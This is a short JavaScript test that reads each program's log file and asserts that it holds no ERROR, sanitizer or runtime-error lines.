test('nothing went wrong inside', () => {
  for (const name of programs) {
    const said = readFileSync(`${state}/log/${name}.log`, 'utf8').split('\n').filter((line) => /^ERROR|Sanitizer|runtime error/.test(line))
    assert.deepEqual(said.slice(0, 5), [], `${name}.log`)
  }
})
